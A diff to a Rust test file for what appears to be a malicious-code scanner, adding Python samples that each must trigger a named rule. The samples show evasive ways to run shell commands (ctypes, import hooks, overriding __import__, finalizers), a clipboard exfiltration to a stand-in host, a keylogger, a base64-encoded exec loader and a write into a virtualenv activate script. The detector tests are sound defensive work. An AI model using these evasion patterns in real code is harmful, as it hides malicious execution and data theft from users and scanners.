@@ -278,3 +278,28 @@ fn look_alikes_stay_below_medium() {
         ("m.py", "import typing\nfrom dataclasses import dataclass, field\ndef f(a: 'typing.Optional[int]', b: 'typing.Dict[str, int]' = None) -> 'typing.List[int]':\n    return []\nHINTS = typing.get_type_hints(f)\n@dataclass\nclass C:\n    xs: list = field(default_factory=list)\n    n: int = field(default_factory=lambda: len('abc'))\n    @property\n    def size(self):\n        return len(self.xs)\nC().size\nX = type('X', (), {'__init__': lambda self: None, '__repr__': lambda self: 'X'})()\n"),
     ]);
 }
+
+/// Other spellings of the same kinds: each must be caught by the mechanism, not by a shape.
+#[test]
+fn other_spellings_of_the_same_kinds() {
+    check(&[
+        ("m.py", "from distutils.spawn import spawn as sp\nsp(['sh', '-c', 'echo x'])\n", "python-shell-command", Some(High)),
+        ("m.py", "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.execv(b'/bin/sh', None)\nlibc.execlp(b'sh', b'sh', b'-c', b'echo x', None)\n", "python-shell-command", Some(High)),
+        ("m.py", "import webbrowser\nwebbrowser.register('x', None, webbrowser.GenericBrowser(['sh', '-c', 'echo x']))\nwebbrowser.get('x').open('u')\n", "python-shell-command", Some(High)),
+        ("m.py", "import os\n{k: v for k, v in vars(os).items()}['sy' + 'stem']('echo x')\n", "python-shell-command", Some(High)),
+        ("m.py", "import os, sys\nclass F:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        os.system('echo x')\nsys.meta_path.append(F)\n", "python-shell-command", Some(High)),
+        ("m.py", "import os, sys\ndef hook(p):\n    os.system('echo x')\n    raise ImportError\nsys.path_hooks.insert(0, hook)\nsys.path_importer_cache.clear()\n", "python-shell-command", Some(High)),
+        ("m.py", "import builtins, os\ndef h(*a, **k):\n    os.system('echo x')\nsetattr(builtins, '__import__', h)\n", "python-shell-command", Some(High)),
+        ("m.py", "import os\n__builtins__['__import__'] = lambda *a, **k: os.system('echo x')\n", "python-shell-command", Some(High)),
+        ("m.py", "import os\nfrom functools import cached_property\nclass C:\n    @cached_property\n    def p(self):\n        return os.system('echo x')\nC().p\n", "python-shell-command", Some(High)),
+        ("m.py", "from pyperclip import paste\nimport urllib.request\nurllib.request.urlopen('https://c.example.invalid/x', data=paste().encode())\n", "python-credential-stealer", Some(Critical)),
+        ("m.py", "from logging.config import listen\nlisten(9999).start()\n", "python-listener-at-load", Some(Medium)),
+        ("m.py", "import keyboard\nkeyboard.on_press(lambda e: open('/tmp/.k', 'a').write(e.name))\n", "python-input-capture", Some(Medium)),
+        ("m.py", "import os, importlib.abc, importlib.util, zlib, base64\nclass L(importlib.abc.Loader):\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRKC5JLElVSEksSQQAKEEFsA==')), module.__dict__)\nspec = importlib.util.spec_from_loader('m', L())\nL().exec_module(importlib.util.module_from_spec(spec))\n", "python-exec-decoded", Some(Critical)),
+        ("m.py", "import typing, os\nclass C:\n    x: \"os.system('echo x')\"\ntyping.get_type_hints(C)\n", "python-shell-command", Some(High)),
+        ("m.py", "import os\nfrom dataclasses import dataclass, field\ndef mk():\n    return os.system('echo x')\n@dataclass\nclass C:\n    x: int = field(default_factory=mk)\nC()\n", "python-shell-command", Some(High)),
+        ("m.py", "import os\nX = type('X', (), {'__init__': lambda self: None, '__del__': lambda self: os.system('echo x')})\nx = X()\n", "python-shell-command", Some(High)),
+        ("m.py", "import os, sys\nwith open(os.path.join(os.environ['VIRTUAL_ENV'], 'bin', 'activate'), 'a') as f:\n    f.write('echo x')\n", "python-startup-write", Some(High)),
+        ("m.py", "import ast\nexec(ast.literal_eval(\"'import os; os.system(\\\\'echo x\\\\')'\"))\n", "python-exec-decoded", Some(Critical)),
+    ]);
+}
